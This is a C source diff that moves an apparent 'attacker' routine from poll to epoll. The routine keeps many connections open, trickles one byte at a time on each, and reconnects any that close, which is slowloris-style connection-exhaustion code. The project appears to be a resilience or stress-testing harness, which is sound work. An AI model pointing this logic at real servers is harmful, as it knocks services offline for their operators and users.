@@ -8,6 +8,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/epoll.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
@@ -65,35 +66,43 @@ static size_t client_hello(uint8_t *out, size_t size)
 
 /* ---- Many at once ---- */
 
-/* Keep so many connections; give each `turn` a look. bytes: one of them is sent each time; 0: none. */
+#define NEWS 1024
+
+/* The i-th of many; one that cannot be had now is tried again with the next turn. */
+static void dial_one(struct attacker *attacker, int i, const char *from, uint32_t spread)
+{
+    uint32_t host = spread == 0 ? 0 : (uint32_t)(next_random(attacker) % spread);
+    struct epoll_event event = {.events = EPOLLRDHUP, .data.u32 = (uint32_t)i};
+    attacker->fds[i] = hostile_dial(from, host, false);
+    if (attacker->fds[i] >= 0)
+        epoll_ctl(attacker->epoll, EPOLL_CTL_ADD, attacker->fds[i], &event);
+}
+
+/* Keep so many connections, and have another for each that ends. bytes: one of them is sent on each at each
+ * turn; NULL: none. The kernel tells which have ended: to ask about each would keep its processor busy. */
 static void keep_many(struct attacker *attacker, const char *from, uint32_t spread, int count,
                       const uint8_t *bytes, size_t len)
 {
     static size_t *sent;
-    struct pollfd *wishes = calloc((size_t)count, sizeof *wishes);
+    struct epoll_event news[NEWS];
     if (attacker->fds == NULL) {
         attacker->fds = malloc(sizeof *attacker->fds * (size_t)count);
-        memset(attacker->fds, 0xff, sizeof *attacker->fds * (size_t)count);
+        attacker->epoll = epoll_create1(EPOLL_CLOEXEC);
         sent = calloc((size_t)count, sizeof *sent);
+        for (int i = 0; i < count; i++)
+            dial_one(attacker, i, from, spread);
     }
-    for (int i = 0; i < count; i++) {
-        uint32_t host = spread == 0 ? 0 : (uint32_t)(next_random(attacker) % spread);
-        if (attacker->fds[i] < 0) {
-            attacker->fds[i] = hostile_dial(from, host, false);
-            sent[i] = 0;
-        } else if (sent[i] < len && send(attacker->fds[i], bytes + sent[i], 1, MSG_NOSIGNAL) == 1) {
+    int ended = epoll_wait(attacker->epoll, news, NEWS, 20);
+    for (int i = 0; i < ended; i++) {
+        const int which = (int)news[i].data.u32;
+        close(attacker->fds[which]);
+        sent[which] = 0;
+        dial_one(attacker, which, from, spread);
+    }
+    for (int i = 0; bytes != NULL && i < count; i++)
+        if (sent[i] < len && send(attacker->fds[i], bytes + sent[i], 1, MSG_NOSIGNAL) == 1)
             sent[i]++;
-        }
-        wishes[i] = (struct pollfd){.fd = attacker->fds[i], .events = POLLRDHUP};
-    }
-    poll(wishes, (nfds_t)count, 20);
-    for (int i = 0; i < count; i++)
-        if (attacker->fds[i] >= 0 && wishes[i].revents != 0) {
-            close(attacker->fds[i]);
-            attacker->fds[i] = -1;
-        }
-    free(wishes);
-    if (len > 0)
+    if (bytes != NULL)
         poll(NULL, 0, 20);
 }
 
